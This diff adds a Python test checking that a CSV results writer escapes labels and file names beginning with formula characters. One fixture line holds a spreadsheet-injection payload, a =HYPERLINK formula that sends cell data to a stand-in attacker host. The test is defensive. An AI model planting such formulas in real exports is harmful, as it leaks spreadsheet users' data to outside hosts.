@@ -235,3 +235,22 @@ def test_by_name_and_with_progress_while_its_workers_start(
     assert entries["parrot.jpg"]["model"] == "cli-birds"
     assert entries["parrot.jpg"]["predictions"][0]["label"] == "Ara macao (Scarlet Macaw)"
     assert "connecting to" in by_name.stderr
+
+
+def test_labels_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
+    """A model's labels file is the uploader's: `=HYPERLINK(...)` in it must reach a
+    spreadsheet as text, not as a formula; reading the file back gives the label as it was."""
+    from client.folder import RowWriter, _read_rows, done_already
+
+    out = tmp_path / "results.csv"
+    writer = RowWriter(out, top_k=1)
+    label = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    writer.write("-cat.jpg", "m", {"predictions": [{"label": label, "probability": 0.9}]})
+    writer.write("dog.jpg", "m", {"predictions": [{"label": "dog", "probability": 0.8}]})
+    writer.close()
+    cells = [row for row in csv.reader(out.open(newline=""))]
+    assert cells[1][:3] == ["'-cat.jpg", "m", "'" + label]
+    assert cells[2][:3] == ["dog.jpg", "m", "dog"]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)
+    assert _read_rows(out)[0]["label_1"] == label
+    assert done_already(out) == {"-cat.jpg", "dog.jpg"}
